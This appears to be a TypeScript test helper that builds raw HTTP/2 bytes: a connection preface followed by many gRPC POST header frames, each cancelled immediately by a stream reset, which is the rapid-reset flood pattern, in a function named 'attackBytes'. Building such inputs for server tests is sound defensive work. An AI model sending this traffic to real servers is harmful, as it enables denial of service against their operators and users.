/** Frames of HTTP/2 as bytes, for what no client sends. */

const headers = 1;
const resetStream = 3;
const settings = 4;
const endHeaders = 4;
const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type: number, flags: number, stream: number, payload = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Returns a field whose name is in HPACK's static table and whose value is literal. */
function field(prefix: readonly number[], value: string): Buffer {
  return Buffer.concat([Buffer.from([...prefix, value.length]), Buffer.from(value)]);
}

/** Returns the bytes of a client that begins calls (POST without a credential) and cancels each at once. */
export function attackBytes(calls: number, path: string): Buffer {
  const method = Buffer.from([0x83, 0x86]);
  const block = Buffer.concat([
    method,
    field([0x04], path),
    field([0x01], 'a'),
    field([0x0f, 0x10], 'application/grpc'),
  ]);
  const parts = [preface, frame(settings, 0, 0)];
  for (let call = 0; call < calls; call += 1) {
    const stream = 1 + 2 * call;
    parts.push(frame(headers, endHeaders, stream, block), frame(resetStream, 0, stream, Buffer.from([0, 0, 0, 8])));
  }
  return Buffer.concat(parts);
}
